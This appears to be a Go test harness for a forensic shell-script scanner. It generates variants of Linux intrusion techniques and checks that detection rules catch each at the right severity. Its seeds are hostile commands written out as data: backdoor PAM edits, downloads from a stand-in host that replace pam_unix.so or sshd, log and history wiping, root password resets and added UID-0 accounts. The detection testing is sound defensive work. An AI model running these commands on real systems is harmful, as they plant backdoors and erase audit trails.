package shell

import (
	"fmt"
	"sort"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// The tradecraft harness: variants generated from our own seeds, per technique: a way of doing
// it (the tool) × what it is done to × how the script wraps it (directly, in a function called
// later, through variables, handed to sh -c). Every variant must be found by its rule at its
// severity; log wiping and password setting are paired with a second root account, which makes
// them the intruder's (high).
//
// go test ./audit/shell -run TestTradecraftHarness -v prints one line per technique:
//
//	harness: <technique> <found>/<total> recall=<0.000>

type tcSeed struct {
	technique string
	rule      string
	min       audit.Severity
	cmds      []string // shell commands, %s the object of the technique
	objects   []string
	extra     string // a line added to every variant (what makes the script the intruder's)
}

var tcSeeds = []tcSeed{
	{"pam-stack-edit", RulePAMEdit, audit.Critical, []string{
		`sed -i '1i auth sufficient %[1]s' /etc/pam.d/sshd`,
		`sed -i "0,/^auth/s//auth optional %[1]s\nauth/" /etc/pam.d/common-auth`,
		`awk 'NR==1{print "auth sufficient %[1]s"}{print}' /etc/pam.d/su > /tmp/.p && mv /tmp/.p /etc/pam.d/su`,
		`awk -v l="auth [success=done default=ignore] %[1]s" '/^auth/&&!d{print l;d=1}1' /etc/pam.d/login > /tmp/l; cat /tmp/l > /etc/pam.d/login`,
		`perl -pi -e 'print "auth sufficient %[1]s\n" if $. == 1' /etc/pam.d/sudo`,
		`echo "auth sufficient %[1]s" >> /etc/pam.d/passwd`,
		`printf 'auth\tsufficient\t%%s\n' %[1]s | tee -a /etc/pam.d/other`,
		"cat >> /etc/pam.d/sshd <<EOF\nauth sufficient %[1]s\nEOF",
		`for s in sshd login su; do sed -i "1i auth sufficient %[1]s" /etc/pam.d/$s; done`,
		`sed -i '1i auth sufficient %[1]s' /etc/pam.d/{sshd,su}`,
	}, []string{"/usr/lib/.cache/pam_c.so", "pam_sysaudit.so", "/dev/shm/p.so", "/lib/security/pam_tty3.so", "pam_permit.so"}, ""},
	{"auth-replace", RuleAuthReplace, audit.Critical, []string{
		`wget -q http://203.0.113.9/b -O %[1]s`,
		`curl -fsSL http://203.0.113.9/b -o %[1]s`,
		`curl -sko %[1]s https://203.0.113.9/b`,
		`cp ./b.so %[1]s`,
		`mv /tmp/.b %[1]s`,
		`install -m 755 build/out %[1]s`,
		`gcc -shared -fPIC -o %[1]s x.c`,
		`cc -o %[1]s x.c -lpam`,
		`dd if=/var/tmp/b of=%[1]s bs=4k`,
	}, []string{"/lib/x86_64-linux-gnu/security/pam_unix.so", "/usr/lib/x86_64-linux-gnu/libpam.so.0", "/usr/sbin/sshd", "/bin/su",
		"/usr/bin/sudo", "/lib/security/pam_extra.so", "$(find / -name pam_unix.so | head -n 1)"}, ""},
	{"masquerade", RuleMasquerade, audit.High, []string{
		`wget -q http://203.0.113.9/m -O %[1]s`,
		`curl -s http://203.0.113.9/m -o %[1]s`,
		`cp ./m %[1]s`,
		`mv /tmp/.m/m %[1]s`,
		`install m %[1]s`,
		`gcc -O2 -o %[1]s m.c`,
	}, []string{"/usr/sbin/crond", "/usr/bin/kworker", "/usr/sbin/rsyslogd", "/var/tmp/kthreadd", "/dev/shm/ksoftirqd", "/sbin/agetty"}, ""},
	{"log-wipe", RuleLogWipe, audit.High, []string{
		`rm -f %[1]s`,
		`rm -rf %[1]s`,
		`shred -zu %[1]s`,
		`truncate -s 0 %[1]s`,
		`> %[1]s`,
		`: > %[1]s`,
		`cat /dev/null > %[1]s`,
		`echo > %[1]s`,
		`echo -n "" > %[1]s`,
		`cp /dev/null %[1]s`,
		`dd if=/dev/null of=%[1]s`,
		`sed -i '/203.0.113.9/d' %[1]s`,
	}, []string{"/var/log/wtmp", "/var/log/btmp", "/var/run/utmp", "/var/log/lastlog", "/var/log/auth.log", "/var/log/secure", "/var/log/messages",
		"/var/log/syslog", "/root/.bash_history"}, "echo 'x2:x:0:0::/root:/bin/sh' >> /etc/passwd"},
	{"history-off", RuleLogWipe, audit.High, []string{"%[1]s"}, []string{"history -c", "unset HISTFILE", "export HISTFILE=/dev/null",
		"HISTSIZE=0", "export HISTFILESIZE=0", "set +o history", "ln -sf /dev/null ~/.bash_history", "rm -f $HOME/.bash_history"},
		"useradd -o -u 0 -g 0 svc"},
	{"password-set", RulePasswordSet, audit.High, []string{"%[1]s"}, []string{
		"echo 'root:N3w!pass' | chpasswd", "chpasswd <<< 'admin:N3w!pass'", "echo 'N3w!pass' | passwd --stdin root",
		`printf 'N3w!pass\nN3w!pass\n' | passwd root`, "usermod -p '$6$abc$def' root", "sed -i 's|^root:[^:]*:|root:$6$x$y:|' /etc/shadow",
		"echo \"root:$(openssl passwd -6 pw)\" | chpasswd -e"}, "echo 'x3:x:0:0::/root:/bin/sh' >> /etc/passwd"},
	{"root-account", RuleRootAccount, audit.High, []string{"%[1]s"}, []string{
		"echo 'sysd:x:0:0::/root:/bin/bash' >> /etc/passwd", "printf '%s\\n' 'ops:$1$s$h:0:0:ops:/root:/bin/sh' | tee -a /etc/passwd",
		"cat >> /etc/passwd <<EOF\nbk:x:0:0::/root:/bin/bash\nEOF", "useradd -o -u 0 -g 0 -s /bin/bash sysadm", "useradd --non-unique --uid 0 adm2",
		"usermod -o -u 0 www-data", "sed -i 's/^app:x:1000:1000:/app:x:0:0:/' /etc/passwd"}, ""},
}

// tcWraps are how a script spells the same command.
var tcWraps = []struct {
	name string
	wrap func(cmd string) string
}{
	{"direct", func(c string) string { return c }},
	{"function", func(c string) string { return "doit() {\n" + c + "\n}\nsleep 1\ndoit" }},
	{"if", func(c string) string { return "if [ \"$(id -u)\" = 0 ]; then\n" + c + "\nfi" }},
	{"sh -c", func(c string) string {
		if strings.Contains(c, "\n") || strings.Contains(c, "'") {
			return c
		}
		return "sh -c '" + c + "'"
	}},
}

func TestTradecraftHarness(t *testing.T) {
	total, found := map[string]int{}, map[string]int{}
	var missed []string
	for _, sd := range tcSeeds {
		for _, c := range sd.cmds {
			for _, o := range sd.objects {
				for _, w := range tcWraps {
					if strings.Contains(o, "pam_permit") && strings.Contains(c, "optional") {
						continue // an optional pam_permit lets no one in
					}
					cmd := fmt.Sprintf(c, o)
					text := "#!/bin/bash\n" + w.wrap(cmd) + "\n"
					if sd.extra != "" {
						text += sd.extra + "\n"
					}
					total[sd.technique]++
					ok := false
					for _, f := range scanFile("/tmp/.i/run.sh", text) {
						ok = ok || f.Rule == sd.rule && f.Severity >= sd.min
					}
					if ok {
						found[sd.technique]++
					} else if len(missed) < 60 {
						missed = append(missed, sd.technique+" ["+w.name+"]: "+cmd)
					}
				}
			}
		}
	}
	var names []string
	for n := range total {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		fmt.Printf("harness: tradecraft-%s %d/%d recall=%.3f\n", n, found[n], total[n], float64(found[n])/float64(total[n]))
	}
	for _, m := range missed {
		t.Errorf("missed: %s", m)
	}
}
